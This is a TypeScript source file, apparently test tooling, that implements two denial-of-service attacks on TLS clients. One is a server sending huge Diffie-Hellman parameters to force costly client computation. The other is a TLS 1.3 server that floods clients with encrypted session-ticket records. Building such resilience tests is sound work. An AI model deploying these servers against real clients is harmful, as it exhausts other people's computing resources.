import {
  constants,
  createCipheriv,
  createHmac,
  createPrivateKey,
  type KeyObject,
  randomBytes,
  sign,
  X509Certificate,
} from 'node:crypto';
import type { Socket } from 'node:net';
import { duplexPair } from 'node:stream';
import { createSecureContext, TLSSocket } from 'node:tls';

/** The attacks of this file cost a client much work in OpenSSL, where no code of the service sees the bytes. */

export interface TlsIdentity {
  cert: string;
  key: string;
}

/**
 * Creates a server that answers a TLS handshake with Diffie-Hellman parameters of up to 10,000 bits (TLS 1.2, RFC
 * 5246). The client computes two exponentiations, the server one signature.
 */
export function createDiffieHellmanServer(
  { cert, key }: TlsIdentity,
  bits: number,
): (connection: Socket) => void {
  const certificate = new X509Certificate(cert).raw;
  const privateKey = createPrivateKey(key);
  const numbers = [randomNumber(bits, 0x80), Buffer.of(2), randomNumber(bits, 0x40)];
  const parameters = Buffer.concat(numbers.map((number) => withLength(2, number)));
  return (connection) => {
    connection.once('data', (clientHello: Buffer) => {
      connection.write(encodeServerFlight(clientHello, certificate, privateKey, parameters));
      // The client has done its work when it sends its key.
      connection.once('data', () => connection.destroy());
    });
  };
}

function randomNumber(bits: number, firstBits: number): Buffer {
  const number = randomBytes(bits / 8);
  number[0] = firstBits | ((number[0] ?? 0) & (firstBits - 1));
  number[number.length - 1] = (number.at(-1) ?? 0) | 1;
  return number;
}

const HANDSHAKE_RECORD = 22;
const TLS_1_2 = Buffer.from('0303', 'hex');
const DHE_RSA_AES128_GCM_SHA256 = Buffer.from('009e', 'hex');
const RSA_PSS_SHA256 = Buffer.from('0804', 'hex');

/** Without this empty extension (RFC 5746), OpenSSL ends the handshake. */
const SECURE_RENEGOTIATION = Buffer.from('0005ff01000100', 'hex');

const MESSAGES = { serverHello: 2, certificate: 11, serverKeyExchange: 12, serverHelloDone: 14 };

function encodeServerFlight(
  clientHello: Buffer,
  certificate: Buffer,
  key: KeyObject,
  parameters: Buffer,
): Buffer {
  // After the headers and the version.
  const clientRandom = clientHello.subarray(11, 11 + 32);
  const serverRandom = randomBytes(32);
  const signature = sign('sha256', Buffer.concat([clientRandom, serverRandom, parameters]), {
    key,
    padding: constants.RSA_PKCS1_PSS_PADDING,
    saltLength: constants.RSA_PSS_SALTLEN_DIGEST,
  });
  // Without session id and compression.
  const choices = [Buffer.of(0), DHE_RSA_AES128_GCM_SHA256, Buffer.of(0), SECURE_RENEGOTIATION];
  const messages = Buffer.concat([
    encodeMessage(MESSAGES.serverHello, TLS_1_2, serverRandom, ...choices),
    encodeMessage(MESSAGES.certificate, withLength(3, withLength(3, certificate))),
    encodeMessage(MESSAGES.serverKeyExchange, parameters, RSA_PSS_SHA256, withLength(2, signature)),
    encodeMessage(MESSAGES.serverHelloDone),
  ]);
  return Buffer.concat([Buffer.of(HANDSHAKE_RECORD), TLS_1_2, withLength(2, messages)]);
}

function encodeMessage(type: number, ...parts: readonly Buffer[]): Buffer {
  return Buffer.concat([Buffer.of(type), withLength(3, Buffer.concat(parts))]);
}

function withLength(lengthBytes: number, content: Buffer): Buffer {
  const length = Buffer.alloc(lengthBytes);
  length.writeUIntBE(content.length, 0, lengthBytes);
  return Buffer.concat([length, content]);
}

/** RFC 8446 section 4.6.1, with a ticket of one byte. As many as fit into a record. */
const SESSION_TICKET = `0400000e${'0000003c'}${'00000000'}${'00'}${'000174'}${'0000'}`;
const SESSION_TICKETS = Buffer.from(SESSION_TICKET.repeat(900), 'hex');

const RECORDS_PER_BURST = 32;
const IV_BYTES = 12;

/** The last byte of a record's content (RFC 8446 section 5.4). */
const CONTENT_TYPES = { handshake: Buffer.of(22), data: Buffer.of(23) };

/**
 * The server's side of a TLS 1.3 connection that can send session tickets without end. TLS libraries handle them
 * without the application.
 */
export class SessionTicketServer {
  readonly tls: TLSSocket;
  readonly #connection: Socket;
  #key: Buffer = Buffer.alloc(0);
  #iv: Buffer = Buffer.alloc(0);
  #recordCount = 0;
  #phase: 'client hello' | 'server flight' | 'application' = 'client hello';

  constructor(connection: Socket, identity: TlsIdentity) {
    const [inner, outer] = duplexPair();
    this.#connection = connection;
    connection.on('data', (chunk: Buffer) => {
      this.#phase = this.#phase === 'server flight' ? 'application' : this.#phase;
      outer.write(chunk);
    });
    outer.on('data', (chunk: Buffer) => {
      this.#countRecords(chunk);
      connection.write(chunk);
    });
    const ciphers = 'TLS_AES_128_GCM_SHA256';
    this.tls = new TLSSocket(inner, {
      isServer: true,
      secureContext: createSecureContext({ ...identity, ciphers, minVersion: 'TLSv1.3' }),
    });
    this.tls.on('error', () => connection.destroy());
    this.tls.on('keylog', (line: Buffer) => {
      const [label, , secret = ''] = line.toString().trim().split(' ');
      if (label === 'SERVER_TRAFFIC_SECRET_0') {
        this.#key = expandLabel(Buffer.from(secret, 'hex'), 'key', 16);
        this.#iv = expandLabel(Buffer.from(secret, 'hex'), 'iv', IV_BYTES);
      }
    });
    connection.on('close', () => this.tls.destroy());
  }

  /**
   * Sends tickets, and data after each record of them, as fast as the client reads, until it disconnects. `tls` must
   * not be used afterwards.
   */
  async flood(data: Buffer | null): Promise<void> {
    while (!this.#connection.destroyed) {
      const records: Buffer[] = [];
      while (records.length < RECORDS_PER_BURST) {
        records.push(this.#encrypt(SESSION_TICKETS, CONTENT_TYPES.handshake));
        if (data !== null) {
          records.push(this.#encrypt(data, CONTENT_TYPES.data));
        }
      }
      const { promise, resolve } = Promise.withResolvers<void>();
      this.#connection.once('close', resolve).write(Buffer.concat(records), () => resolve());
      await promise;
      this.#connection.off('close', resolve);
    }
  }

  #encrypt(content: Buffer, type: Buffer): Buffer {
    const nonce = Buffer.from(this.#iv);
    const counterOffset = IV_BYTES - 4;
    nonce.writeUInt32BE(
      (nonce.readUInt32BE(counterOffset) ^ this.#recordCount) >>> 0,
      counterOffset,
    );
    this.#recordCount += 1;
    const header = Buffer.from('1703030000', 'hex');
    header.writeUInt16BE(content.length + type.length + 16, 3);
    const cipher = createCipheriv('aes-128-gcm', this.#key, nonce);
    cipher.setAAD(header);
    const encrypted = cipher.update(Buffer.concat([content, type]));
    return Buffer.concat([header, encrypted, cipher.final(), cipher.getAuthTag()]);
  }

  /** Counts the records that `tls` sends after the client's part of the handshake. */
  #countRecords(chunk: Buffer): void {
    if (this.#phase !== 'application') {
      this.#phase = 'server flight';
      return;
    }
    for (let offset = 0; offset < chunk.length; this.#recordCount += 1) {
      offset += 5 + chunk.readUInt16BE(offset + 3);
    }
  }
}

/** HKDF-Expand-Label (RFC 8446 section 7.1), for at most 32 bytes and without a context. */
function expandLabel(secret: Buffer, label: string, bytes: number): Buffer {
  const fullLabel = Buffer.from(`tls13 ${label}`);
  return createHmac('sha256', secret)
    .update(Buffer.concat([Buffer.of(0, bytes, fullLabel.length), fullLabel, Buffer.of(0, 1)]))
    .digest()
    .subarray(0, bytes);
}
